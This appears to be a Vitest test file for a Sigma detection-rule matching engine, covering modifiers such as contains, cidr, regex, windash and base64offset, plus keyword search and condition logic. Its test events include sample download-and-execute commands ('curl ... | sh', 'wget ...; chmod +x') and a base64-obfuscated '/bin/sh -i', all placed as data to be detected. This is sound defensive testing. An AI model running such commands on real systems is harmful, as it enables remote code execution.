import { describe, expect, it } from 'vitest'
import { matchEvents } from '../../../src/engine/sigma/matchEvents'
import { base64Offsets } from '../../../src/engine/sigma/fieldCondition'
import { ev, setOf } from './helpers'

/** Rows matched by the only rule of `text`. */
function rows(text: string, events: ReturnType<typeof ev>[]): number[] {
  return matchEvents(setOf(text), events)[0]
}

const rule = (detection: string, logsource = 'logsource:\n  product: linux\n') => `title: t\nid: r1\n${logsource}detection:\n${detection}\nlevel: high\n`

describe('field conditions', () => {
  it('matches exact values case-insensitively through the field map and the raw JSON record', () => {
    const events = [
      ev('Failed password for ROOT from 10.0.0.1', { user: 'ROOT' }),
      ev('{"TargetUserName":"root","x":{"y":"deep"}}'),
      ev('{"TargetUserName":"rooted"}'),
      ev('other', { user: 'alice' }),
    ]
    expect(rows(rule('  sel:\n    TargetUserName: root\n  condition: sel'), events)).toEqual([0, 1])
    expect(rows(rule('  sel:\n    x.y: DEEP\n  condition: sel'), events)).toEqual([1])
  })

  it('applies contains, startswith, endswith, all, wildcards and lists', () => {
    const events = [ev('a', { command: '/bin/bash -c "curl http://x | sh"' }), ev('b', { command: '/usr/bin/curl -o /tmp/x' }), ev('c', { command: 'ls' })]
    expect(rows(rule('  sel:\n    CommandLine|contains: curl\n  condition: sel'), events)).toEqual([0, 1])
    expect(rows(rule('  sel:\n    CommandLine|startswith: /usr/\n  condition: sel'), events)).toEqual([1])
    expect(rows(rule('  sel:\n    CommandLine|endswith: "| sh\\""\n  condition: sel'), events)).toEqual([0])
    expect(rows(rule('  sel:\n    CommandLine|contains|all:\n      - curl\n      - "| sh"\n  condition: sel'), events)).toEqual([0])
    expect(rows(rule('  sel:\n    CommandLine: "*curl*/tmp/?"\n  condition: sel'), events)).toEqual([1])
    expect(rows(rule('  sel:\n    CommandLine:\n      - ls\n      - nope\n  condition: sel'), events)).toEqual([2])
  })

  it('handles re with sub-modifiers, cidr, exists, null, numbers and windash', () => {
    const events = [
      ev('{"DestinationIp":"10.1.2.3","DestinationPort":4444,"Initiated":"true"}'),
      ev('{"DestinationIp":"185.220.101.4","DestinationPort":"4444"}'),
      ev('{"DestinationIp":"fe80::1","DestinationPort":80,"Extra":null}'),
    ]
    expect(rows(rule('  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - fe80::/10\n  condition: sel'), events)).toEqual([0, 2])
    expect(rows(rule('  sel:\n    Initiated|exists: true\n  condition: sel'), events)).toEqual([0])
    expect(rows(rule('  sel:\n    Initiated: null\n  condition: sel'), events)).toEqual([1, 2])
    expect(rows(rule('  sel:\n    DestinationPort|gte: 4000\n  condition: sel'), events)).toEqual([0, 1])
    expect(rows(rule('  sel:\n    DestinationPort: 4444\n  condition: sel'), events)).toEqual([0, 1])
    expect(rows(rule('  sel:\n    DestinationIp|re: ^10\\.\n  condition: sel'), events)).toEqual([0])
    expect(rows(rule('  sel:\n    DestinationIp|re|i: ^FE80\n  condition: sel'), events)).toEqual([2])
    expect(rows(rule('  sel:\n    DestinationIp|re: ^FE80\n  condition: sel'), events)).toEqual([])
    const dash = [ev('a', { command: 'tool /quiet' }), ev('b', { command: 'tool -quiet' }), ev('c', { command: 'tool quiet' })]
    expect(rows(rule('  sel:\n    CommandLine|windash|contains: " -quiet"\n  condition: sel'), dash)).toEqual([0, 1])
  })

  it('finds a base64-encoded value at any of the three offsets', () => {
    expect(base64Offsets('/bin/sh')).toEqual(['L2Jpbi9za', '9iaW4vc2', 'vYmluL3No'])
    const hidden = ['/bin/sh', 'x/bin/sh -i', 'xy/bin/sh'].map((s) => ev('e', { command: `echo ${Buffer.from(s).toString('base64')} | base64 -d` }))
    expect(rows(rule('  sel:\n    CommandLine|base64offset|contains: /bin/sh\n  condition: sel'), [...hidden, ev('n', { command: 'echo L2Jpbi9iYXNo' })])).toEqual([0, 1, 2])
  })

  it('searches keywords in the raw line with wildcards, case-insensitively', () => {
    const events = [ev('sshd[1]: Corrupted MAC on input.'), ev('sshd[1]: corrupted mac ON INPUT'), ev('sshd[1]: Corrupted MAC'), ev('wget http://a; chmod +x a')]
    expect(rows(rule('  keywords:\n    - Corrupted MAC on input\n    - "*wget *; chmod +x*"\n  condition: keywords'), events)).toEqual([0, 1, 3])
  })
})

describe('conditions', () => {
  const events = [ev('alpha'), ev('beta'), ev('alpha beta'), ev('gamma'), ev('alpha gamma')]
  const sel = '  sel_a:\n    - alpha\n  sel_b:\n    - beta\n  filter_g:\n    - gamma\n'
  it.each([
    ['sel_a and not sel_b', [0, 4]],
    ['sel_a or sel_b', [0, 1, 2, 4]],
    ['1 of sel_*', [0, 1, 2, 4]],
    ['all of sel_*', [2]],
    ['1 of sel_* and not 1 of filter_*', [0, 1, 2]],
    ['all of them', []],
    ['1 of them', [0, 1, 2, 3, 4]],
    ['not (sel_a or filter_g)', [1]],
    ['(sel_a and (sel_b or filter_g))', [2, 4]],
  ])('%s', (condition, expected) => {
    expect(rows(rule(`${sel}  condition: ${condition}`), events)).toEqual(expected)
  })
})
